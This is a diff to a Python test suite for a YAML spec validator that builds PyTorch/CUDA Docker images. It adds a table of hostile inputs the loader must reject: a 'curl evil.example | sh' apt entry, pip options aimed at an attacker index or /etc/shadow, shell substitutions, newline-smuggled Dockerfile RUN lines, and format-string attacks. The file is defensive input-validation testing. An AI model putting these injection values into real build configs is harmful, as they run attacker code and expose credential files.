@@ -86,21 +86,21 @@ def test_matrix_selection_by_torch_or_cuda(tmp_path):
     "text,message",
     [
         ("", "spec.yaml is empty"),
-        ("name: [unclosed\n", "is not valid YAML"),
-        ("- just\n- a list\n", "expected a mapping, got list"),
+        ("name: [unclosed\n", "malformed YAML"),
+        ("- just\n- a list\n", "expected a mapping, got a list"),
         (MINIMAL + "variant: {}\n", "unknown key 'variant' (did you mean 'variants'?)"),
         (MINIMAL + "variants: {slimm: {}}\n", "variants: unknown key 'slimm' (did you mean 'slim'?)"),
-        (MINIMAL + "variants: {slim: {pip: jupyterlab}}\n", "variants.slim.pip: expected a list of strings"),
-        (MINIMAL + "variants: {ssh: {ports: [22, 70000]}}\n", "variants.ssh.ports: expected a list of port numbers"),
+        (MINIMAL + "variants: {slim: {pip: jupyterlab}}\n", "variants.slim.pip: expected a list, got a string"),
+        (MINIMAL + "variants: {ssh: {ports: [22, 70000]}}\n", "variants.ssh.ports[1]: 70000 is out of range (1-65535)"),
         (MINIMAL + "build: {pip_indx: x}\n", "unknown key 'pip_indx' (did you mean 'pip_index'?)"),
-        (MINIMAL + "build: {aliases: ['{arch}']}\n", "alias '{arch}' uses an unknown field"),
+        (MINIMAL + "build: {aliases: ['{arch}']}\n", "build.aliases[0]: '{arch}' uses an unknown field '{arch}'"),
         (MINIMAL + "user: {name: root}\n", "must not be root"),
         (MINIMAL + "user: {uid: 0}\n", "uid 0 is not a regular user id"),
         ('name: p\npython: "3.11"\n', "missing key 'matrix'"),
         ('name: p\npython: "3.11"\nmatrix: []\n', "matrix: expected a non-empty list"),
         ('name: p\npython: 3.10\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', 'python: 3.1 is a number; fix: quote it'),
-        ('name: P Q\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', "name: 'P Q' is not valid"),
-        ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9", cuda: "12.8"}]\n', "matrix[0].torch: '2.9' is not valid"),
+        ('name: P Q\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', "name: 'P Q' is not an image name"),
+        ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9", cuda: "12.8"}]\n', "matrix[0].torch: '2.9' is not a version X.Y.Z"),
         ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8", gpu: a100}]\n', "unknown key 'gpu'"),
         (
             'name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "11.8"}]\n',
@@ -150,3 +150,78 @@ def test_unknown_variant_lookup_suggests(tmp_path):
     spec = load_spec(write(tmp_path, MINIMAL))
     with pytest.raises(SpecError, match="unknown variant 'jupiter' \\(did you mean 'jupyter'\\?\\)"):
         spec.variant("jupiter")
+
+
+# Values crafted to smuggle something into a Dockerfile or a pip/apt command line (issue 8, classes 2 and 5).
+HOSTILE = {
+    "port-bool": (MINIMAL + "variants: {ssh: {ports: [true]}}\n", ["variants.ssh.ports[0]", "whole number"]),
+    "port-float": (MINIMAL + "variants: {ssh: {ports: [22.9]}}\n", ["variants.ssh.ports[0]", "whole number"]),
+    "port-twice": (MINIMAL + "variants: {ssh: {ports: [22, 22]}}\n", ["variants.ssh.ports[1]", "listed twice"]),
+    "uid-bool": (MINIMAL + "user: {uid: true}\n", ["user.uid", "not a regular user id"]),
+    "uid-float": (MINIMAL + "user: {uid: 1000.0}\n", ["user.uid", "not a regular user id"]),
+    "version-newline": ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1\\n", cuda: "12.8"}]\n', ["matrix[0].torch", "X.Y.Z"]),
+    "python-newline": ('name: p\npython: "3.11\\n"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', ["python:", "3.X"]),
+    "default-string": ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8", default: "yes"}]\n', ["matrix[0].default", "true or false"]),
+    "pip-option": (MINIMAL + "variants: {full: {pip: ['--index-url=https://evil.example/simple']}}\n", ["variants.full.pip[0]", "option"]),
+    "pip-requirements-file": (MINIMAL + "variants: {full: {pip: ['-r /etc/shadow']}}\n", ["variants.full.pip[0]", "option"]),
+    "pip-shell": (MINIMAL + "variants: {full: {pip: ['numpy; $(id)']}}\n", ["variants.full.pip[0]", "PEP 508"]),
+    "pip-file-url": (MINIMAL + "variants: {full: {pip: ['x @ file:///etc/passwd']}}\n", ["variants.full.pip[0]", "not http(s)"]),
+    "index-option": (MINIMAL + "build: {pip_index: '--extra-index-url=https://evil.example'}\n", ["build.pip_index"]),
+    "extra-index-option": (MINIMAL + "build: {pip_extra_index: ['-r/etc/shadow']}\n", ["build.pip_extra_index[0]"]),
+    "find-links-option": (MINIMAL + "build: {find_links: ['--index-url=https://evil.example']}\n", ["build.find_links[0]", "option"]),
+    "apt-shell": (MINIMAL + "variants: {ssh: {apt: ['vim; curl evil.example | sh']}}\n", ["variants.ssh.apt[0]", "Debian package"]),
+    "apt-option": (MINIMAL + "variants: {ssh: {apt: ['-oAPT::Update::Pre-Invoke::=id']}}\n", ["variants.ssh.apt[0]", "Debian package"]),
+    "apt-twice": (MINIMAL + "variants: {ssh: {apt: [htop, htop]}}\n", ["variants.ssh.apt[1]", "listed twice (also at [0])"]),
+    "mirror-sed-command": (MINIMAL + "build: {apt_mirror: 'http://m.example/debian#e touch /tmp/pwned'}\n", ["build.apt_mirror"]),
+    "mirror-fragment": (MINIMAL + "build: {apt_mirror: 'http://m.example/debian#e'}\n", ["build.apt_mirror", "#fragment"]),
+    "mirror-scheme": (MINIMAL + "build: {apt_mirror: 'file:///etc'}\n", ["build.apt_mirror", "http://"]),
+    "registry-newline": (MINIMAL + 'registry: "reg.example.com\\nRUN id"\n', ["registry:", "not a registry"]),
+    "base-newline": (MINIMAL + 'base: {image: "debian:bookworm-slim\\nRUN id"}\n', ["base.image", "image reference"]),
+    "variant-base-quote": (MINIMAL + "variants: {slim: {base: 'debian\"x'}}\n", ["variants.slim.base", "image reference"]),
+    "bootstrap-suite": (MINIMAL + "base: {image: 'debian:bookworm-slim', bootstrap: {suite: '-v; id'}}\n", ["base.bootstrap.suite"]),
+    "syntax-newline": (MINIMAL + 'build: {syntax: "docker/dockerfile:1\\nRUN id"}\n', ["build.syntax", "image reference"]),
+    "user-quote": (MINIMAL + "user: {name: \"gpu'rig\"}\n", ["user.name", "not a user name"]),
+    "alias-width": (MINIMAL + "build: {aliases: ['{variant:>1500000000}']}\n", ["build.aliases[0]", "width"]),
+    "alias-conversion": (MINIMAL + "build: {aliases: ['{variant!r}']}\n", ["build.aliases[0]", "conversion"]),
+    "alias-attribute": (MINIMAL + "build: {aliases: ['{variant.__class__}']}\n", ["build.aliases[0]", "unknown field"]),
+    "alias-brace": (MINIMAL + "build: {aliases: ['{variant']}\n", ["build.aliases[0]", "unbalanced"]),
+    "alias-not-a-tag": (MINIMAL + "build: {aliases: ['{variant}/x']}\n", ["build.aliases[0]", "makes the tag 'slim/x'"]),
+    "alias-too-long": (MINIMAL + "build: {aliases: ['" + "x" * 130 + "']}\n", ["build.aliases[0]", "valid image tag"]),
+    "torch-index-width": (MINIMAL + "build: {torch_index: 'https://x.example/{cuda_tag:>1500000000}'}\n", ["build.torch_index", "width"]),
+    "torch-index-field": (MINIMAL + "build: {torch_index: 'https://x.example/{torch}'}\n", ["build.torch_index", "unknown field"]),
+    "index-credentials": (
+        MINIMAL + "build: {pip_index: 'https://bob:s3cret@pypi.example.com/simple'}\n",
+        ["build.pip_index", "user:password@"],
+    ),
+    "ca-bundle-csv": (MINIMAL + "build: {ca_bundle: '/tmp/x.pem,src=/etc/shadow'}\n", ["build.ca_bundle", "another field"]),
+    "overlong": (MINIMAL + "build: {ca_bundle: '" + "a" * 5000 + "'}\n", ["build.ca_bundle", "5000 characters"]),
+}
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_values_are_refused_naming_key_and_rule(tmp_path, name):
+    text, fragments = HOSTILE[name]
+    path = write(tmp_path, text)
+    with pytest.raises(SpecError) as err:
+        load_spec(path)
+    line = str(err.value)
+    assert "\n" not in line and line.startswith(f"{path}: ") and "; fix: " in line
+    for fragment in fragments:
+        assert fragment in line
+    assert "s3cret" not in line and len(line) < 400
+
+
+def test_valid_values_of_every_kind_load(tmp_path):
+    spec = load_spec(
+        write(
+            tmp_path,
+            MINIMAL
+            + "registry: 'reg.example.com:5000/ml/'\n"
+            + "variants: {full: {pip: ['jupyterlab[full]>=4,<5', 'numpy; python_version >= \"3.10\"', 'x @ https://h.example/x.whl'],"
+            + " apt: ['g++', 'libc6:amd64', 'python3=3.11.2-1+b1']}}\n"
+            + "build: {torch_index: 'https://download.pytorch.org/whl/{cuda_tag}', aliases: ['{torch}-{cuda_tag}', 'latest-{variant}'],"
+            + " ca_bundle: ~/certs/ca.pem, find_links: [/opt/wheels, 'https://h.example/links'], syntax: 'docker/dockerfile:1.7'}\n",
+        )
+    )
+    assert spec.variants["full"].apt[-1] == "python3=3.11.2-1+b1"
+    assert spec.alias_refs(spec.default, "full") == ("reg.example.com:5000/ml/pytorch:2.9.1-cu128", "reg.example.com:5000/ml/pytorch:latest-full")
